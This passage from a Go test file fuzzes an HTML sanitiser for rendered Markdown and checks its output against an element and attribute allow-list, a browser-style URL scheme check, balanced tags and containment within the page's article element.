// nothing; and the sanitiser never panics.
func FuzzSanitize(f *testing.F) {
	for _, v := range xssVectors {
		f.Add(v)
	}
	for _, tc := range trickyMarkdown {
		var buf bytes.Buffer
		if err := newMarkdown().md.Convert([]byte(tc.src), &buf); err != nil {
			f.Fatal(err)
		}
		f.Add(buf.String())
	}
	f.Fuzz(func(t *testing.T, in string) {
		out := sanitizeHTML([]byte(in))
		if err := checkSanitized(out); err != nil {
			t.Fatalf("sanitizeHTML(%q) = %q: %v", in, out, err)
		}
		if again := sanitizeHTML(out); !bytes.Equal(again, out) {
			t.Fatalf("sanitizing %q twice: %q, then %q", in, out, again)
		}
		if err := checkContained(out); err != nil {
			t.Fatalf("sanitizeHTML(%q) = %q: %v", in, out, err)
		}
	})
}

// checkContained parses sanitised HTML as a browser does where the SIP page
// puts it, in an article followed by the page's own aside and sections
// (and, without a doctype, in quirks mode, as the editor's script parses
// its preview), and checks that what it makes stays in the article: the
// page's elements keep their places and stay empty.
func checkContained(out []byte) error {
	for _, doctype := range []string{"<!doctype html>", ""} {
		page := doctype + `<html><head></head><body><header></header><main><div data-page="layout"><article data-page="sip">` + string(out) +
			`</article><aside data-page="aside"></aside></div><section data-page="results"></section></main><footer></footer></body></html>`
		doc, err := html.Parse(strings.NewReader(page))
		if err != nil {
			return err
		}
		var (
			path  []string // the page's elements and stray text, in document order
			marks = map[string]int{}
			visit func(n *html.Node, in string)
		)
		visit = func(n *html.Node, in string) {
			for c := n.FirstChild; c != nil; c = c.NextSibling {
				if c.Type != html.ElementNode {
					if in != "article sip" && c.Type == html.TextNode && strings.TrimSpace(c.Data) != "" {
						path = append(path, in+" > text "+c.Data)
					}
					continue
				}
				mark := ""
				for _, a := range c.Attr {
					if a.Key == "data-page" {
						mark = a.Val
					}
				}
				marks[mark]++
				if in == "article sip" {
					visit(c, in)
					continue
				}
				name := strings.TrimSpace(c.Data + " " + mark)
				path = append(path, in+" > "+name)
				visit(c, name)
			}
		}
		visit(doc, "")
		want := []string{" > html", "html > head", "html > body", "body > header", "body > main", "main > div layout",
			"div layout > article sip", "div layout > aside aside", "main > section results", "body > footer"}
		if !slices.Equal(path, want) || marks["sip"] != 1 || marks["layout"] != 1 || marks["aside"] != 1 || marks["results"] != 1 {
			return fmt.Errorf("on the page %q the page's elements are %v, want %v", doctype, path, want)
		}
	}
	return nil
}

// checkSanitized checks sanitised HTML on its own terms, without the
// sanitiser's code: the allow-list of elements and attributes, URLs a
// browser would read as http, https, mailto or a path on the same site,
// rel on every link, and balanced tags.
func checkSanitized(out []byte) error {
	attrs := map[string][]string{
		"p": nil, "blockquote": nil, "pre": nil, "code": nil, "em": nil, "strong": nil, "del": nil,
		"ul": nil, "li": nil, "table": nil, "thead": nil, "tbody": nil, "tr": nil, "br": nil, "hr": nil,
		"h1": {"id"}, "h2": {"id"}, "h3": {"id"}, "h4": {"id"}, "h5": {"id"}, "h6": {"id"},
		"ol": {"start"}, "th": {"align"}, "td": {"align"}, "a": {"href", "title", "rel"},
		"img": {"src", "alt", "title"}, "input": {"type", "checked", "disabled"},
	}
	var open []string
	z := html.NewTokenizer(bytes.NewReader(out))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			break
		}
		tok := z.Token()
		switch tt {
		case html.TextToken:
		case html.StartTagToken, html.SelfClosingTagToken:
			allowed, ok := attrs[tok.Data]
			if !ok {
				return fmt.Errorf("element %s", tok.Data)
			}
			seen := map[string]bool{}
			for _, a := range tok.Attr {
				if !slices.Contains(allowed, a.Key) || seen[a.Key] {
					return fmt.Errorf("attribute %s on %s", a.Key, tok.Data)
				}
				seen[a.Key] = true
				if (a.Key == "href" || a.Key == "src") && !browserSafeURL(a.Val) {
					return fmt.Errorf("%s=%q on %s", a.Key, a.Val, tok.Data)
				}
				if a.Key == "rel" && a.Val != "nofollow noreferrer" || a.Key == "type" && a.Val != "checkbox" ||
					(a.Key == "checked" || a.Key == "disabled") && a.Val != "" {
					return fmt.Errorf("%s=%q on %s", a.Key, a.Val, tok.Data)
				}
				if a.Key == "id" && !headingIDPattern.MatchString(a.Val) || a.Key == "align" && a.Val != "left" && a.Val != "right" && a.Val != "center" {
					return fmt.Errorf("%s=%q on %s", a.Key, a.Val, tok.Data)
				}
			}
			if seen["href"] != seen["rel"] {
				return fmt.Errorf("link without rel, or rel without link: %v", tok.Attr)
			}
			if tok.Data == "input" && !seen["type"] || (tok.Data == "a" || tok.Data == "img") && len(tok.Attr) == 0 {
				return fmt.Errorf("%s with attributes %v", tok.Data, tok.Attr)
			}
			void := isVoid(tok.Data)
			if tt == html.SelfClosingTagToken && !void {
				return fmt.Errorf("self-closing %s", tok.Data)
			}
			if !void {
				open = append(open, tok.Data)
			}
		case html.EndTagToken:
			if len(open) == 0 || open[len(open)-1] != tok.Data {
				return fmt.Errorf("end tag %s with %v open", tok.Data, open)
			}
			open = open[:len(open)-1]
		default:
			return fmt.Errorf("token %v", tok)
		}
	}
	if len(open) > 0 {
		return fmt.Errorf("left open: %v", open)
	}
	return nil
}

// browserSafeURL reads a URL's scheme as the WHATWG URL parser does (after
// dropping leading and trailing spaces and controls, and tabs and newlines
// anywhere) and accepts only http, https, mailto, or no scheme and no
// host.
func browserSafeURL(v string) bool {
	v = strings.TrimFunc(v, func(r rune) bool { return r <= 0x20 })
	v = strings.NewReplacer("\t", "", "\n", "", "\r", "").Replace(v)
	if strings.ContainsFunc(v, func(r rune) bool { return r < 0x20 || r == 0x7f || r == ' ' }) {
		return false
	}
	if scheme, _, ok := strings.Cut(v, ":"); ok && regexp.MustCompile(`^[a-zA-Z][a-zA-Z0-9+.-]*$`).MatchString(scheme) {
		switch strings.ToLower(scheme) {
		case "http", "https", "mailto":
			_, err := url.Parse(v)
			return err == nil
		}
		return false
	}
	return v != "" && !(len(v) >= 2 && strings.ContainsRune(`/\`, rune(v[0])) && strings.ContainsRune(`/\`, rune(v[1])))
}
